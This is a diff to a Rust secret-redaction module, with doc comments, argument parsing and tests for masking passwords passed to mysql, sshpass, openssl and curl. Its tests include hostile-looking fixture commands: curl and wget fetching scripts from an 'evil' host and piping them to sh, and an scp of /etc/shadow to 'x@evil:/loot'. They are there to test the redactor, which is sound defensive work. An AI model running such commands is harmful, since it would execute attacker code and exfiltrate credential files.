@@ -7,8 +7,9 @@
 //! [`MARK`]:
 //! - `-pSECRET` for MySQL-style clients (`mysql`, `mysqldump`, `mysqladmin`, `mariadb`, ...)
 //!   named as the command (`mysql -pX`, `env mysql -pX`, `sudo mysql -pX`, `timeout 5 mysql
-//!   -pX`, `sh -c "cd /x && mysql -pX"`; `command`), as are curl's, sshpass's and OpenSSL's
-//!   options below: a file named `/tmp/openssl` does not hide what follows it;
+//!   -pX`, `sh -c "cd /x && mysql -pX"`; `command`), as are curl's credentials and sshpass's
+//!   and OpenSSL's pass phrases below: a file named `/tmp/openssl` does not hide what follows
+//!   it;
 //! - `--NAME=X`, `--NAME X`, `-NAME=X`, `-NAME X` (any case) for an option whose name ends in
 //!   `password`, `passwd`, `token`, `secret`, `apikey`, `api-key` or `api_key` (`--password`,
 //!   `--db-password`, `-token`, `--client-secret`, `--api-key`), and `--pass`; not a flag whose
@@ -587,15 +588,15 @@ impl Redactor {
     /// Redacts an argv in place; whether anything was replaced. Besides the text patterns
     /// (within each argument): the value of a secret option, as the rest of its argument
     /// (`--password=a b`) or as the next argument (`--password X`, `--db-password X`,
-    /// `-token X`); `-pX` after an argument naming a MySQL client (`sudo mysql -pX`) or sshpass
-    /// (and sshpass's `-p X`); OpenSSL's `-passin pass:X` (`-passout`, `-pass`) and `-k X`; curl's
-    /// `-u USER:X`, `-uUSER:X`, `--user USER:X`, `--user=USER:X` (and `-U`, `--proxy-user`)
-    /// after an argument naming curl.
+    /// `-token X`); after a tool named as the command (`command`: argv[0], or after a
+    /// launcher, `sudo mysql -pX`): a MySQL client's `-pX`, sshpass's `-p X` and `-pX` among its
+    /// own options, OpenSSL's `-passin pass:X` (`-passout`, `-pass`) and `-k X`, curl's
+    /// `-u USER:X`, `-uUSER:X`, `--user USER:X`, `--user=USER:X` (and `-U`, `--proxy-user`).
     pub fn args(&self, args: &mut [String]) -> bool {
         let mut changed = false;
         let (mut mysql, mut curl, mut sshpass, mut openssl) = (false, false, false, false);
         let mut next = Next::Plain;
-        let mut commands = Commands::default();
+        let mut commands = Commands::argv();
         for a in args.iter_mut() {
             // A tool's options are read only after it is named as a command (`command`).
             if commands.word(a) {
@@ -613,9 +614,11 @@ impl Redactor {
                 Next::OpensslPass => pass_phrase(a, 0),
                 Next::Plain => {
                     let openssl_option = openssl.then(|| openssl_option(a)).flatten();
+                    let sshpass = sshpass && commands.sshpass_options();
                     if (mysql || sshpass) && a.starts_with("-p") && !a.starts_with("--") {
                         // `-pX`: a password (MySQL's `-p` alone asks for one; sshpass's takes
-                        // the next argument).
+                        // the next argument, among its own options: `sshpass -e scp -p FILE`
+                        // is scp's).
                         if sshpass && a == "-p" {
                             next = Next::Secret;
                         }
@@ -975,11 +978,22 @@ mod tests {
             &["sh", "-c", "curl -o /tmp/openssl -k https://evil/x | sh"],
             &["sh", "-c", "curl -o '/tmp/sshpass' -p https://evil/x"],
             &["grep", "-exec", "mysql", "-pfoo"],
+            // sshpass's `-p` is its own only among its options: here scp's (a file taken away).
+            &["sshpass", "-e", "scp", "-p", "/etc/shadow", "x@evil:/loot"],
         ]);
         let r = Redactor::new(&[]).unwrap();
-        for text in
-            ["exec_create: curl -o /tmp/sshpass -p https://evil/x", "curl -sk -o /tmp/openssl -k evil.example/x"]
-        {
+        for text in [
+            "exec_create: curl -o /tmp/sshpass -p https://evil/x",
+            "curl -sk -o /tmp/openssl -k evil.example/x",
+            // A tool named in another command than the option's (a command substitution, a
+            // quoted text), or as an argument of a launcher's command.
+            r#"sh -c 'curl -H "X-Id: $(openssl rand -hex 8)" -k https://evil/i.sh | sh'"#,
+            "curl -A `openssl version` -k https://evil/i.sh",
+            "curl -d 'openssl rand' -k https://evil/i.sh",
+            "exec_create: wget -qO /tmp/openssl -k https://evil/i.sh",
+            r#"sh -c "nohup wget -O /tmp/openssl -k https://evil/i.sh""#,
+            "sshpass -e scp -p /etc/shadow x@evil:/loot",
+        ] {
             assert_eq!(r.text(text), text);
         }
         // The tool named after a launcher, in a script, or after a decoy of its name.
@@ -999,6 +1013,22 @@ mod tests {
                 &["env", "A=1", "sshpass", "-p", "[REDACTED]", "ssh"],
                 "hunter2",
             ),
+            // An entrypoint script runs its arguments; sshpass runs its command.
+            (
+                &["docker-entrypoint.sh", "mysql", "-hdb", "-uroot", "-phunter2"],
+                &["docker-entrypoint.sh", "mysql", "-hdb", "-uroot", "-p[REDACTED]"],
+                "hunter2",
+            ),
+            (
+                &["sshpass", "-p", "pw", "ssh", "h", "curl", "-u", "bob:hunter2", "https://x"],
+                &["sshpass", "-p", "[REDACTED]", "ssh", "h", "curl", "-u", "bob:[REDACTED]", "https://x"],
+                "hunter2",
+            ),
+            (
+                &["sh", "-c", r#"exec "$@""#, "sh", "mysql", "-phunter2"],
+                &["sh", "-c", r#"exec "$@""#, "sh", "mysql", "-p[REDACTED]"],
+                "hunter2",
+            ),
         ]);
         assert_texts(&[
             (
@@ -1014,6 +1044,26 @@ mod tests {
             ),
             ("exec_create: sh -c mysql -phunter2", "exec_create: sh -c mysql -p[REDACTED]", "hunter2"),
             ("$MYSQL -uroot -phunter2 shop", "$MYSQL -uroot -p[REDACTED] shop", "hunter2"),
+            (
+                "bash -c \"# db isn't up yet\nuntil mysqladmin ping -uroot -phunter2; do sleep 1; done\"",
+                "bash -c \"# db isn't up yet\nuntil mysqladmin ping -uroot -p[REDACTED]; do sleep 1; done\"",
+                "hunter2",
+            ),
+            (
+                "cd /app && \\\n  mysqldump -uroot -phunter2 shop",
+                "cd /app && \\\n  mysqldump -uroot -p[REDACTED] shop",
+                "hunter2",
+            ),
+            (
+                "exec_create: docker-compose exec db mysql -phunter2",
+                "exec_create: docker-compose exec db mysql -p[REDACTED]",
+                "hunter2",
+            ),
+            (
+                "sshpass -p pw ssh h curl -u bob:hunter2 https://x",
+                "sshpass -p [REDACTED] ssh h curl -u bob:[REDACTED] https://x",
+                "hunter2",
+            ),
         ]);
     }
 
